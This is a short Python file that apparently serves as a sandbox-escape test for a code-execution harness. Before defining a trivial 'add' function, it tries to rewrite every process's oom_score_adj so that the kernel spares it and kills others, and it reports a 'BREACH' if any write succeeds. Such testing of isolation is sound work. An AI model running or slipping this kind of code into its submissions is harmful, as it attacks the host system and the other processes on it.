# class: escape
# want: passed
# problem: add
# what: makes the kernel spare it and kill others when memory ends
# stops: a uid of its own; no capabilities
import os

done = []
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        with open(f"/proc/{pid}/oom_score_adj", "w") as file:
            file.write("-1000" if int(pid) == os.getpid() else "1000")
        done.append(pid)
    except OSError:
        pass
if done:
    raise SystemError(f"BREACH changed the scores of {done}")


def add(a, b):
    return a + b
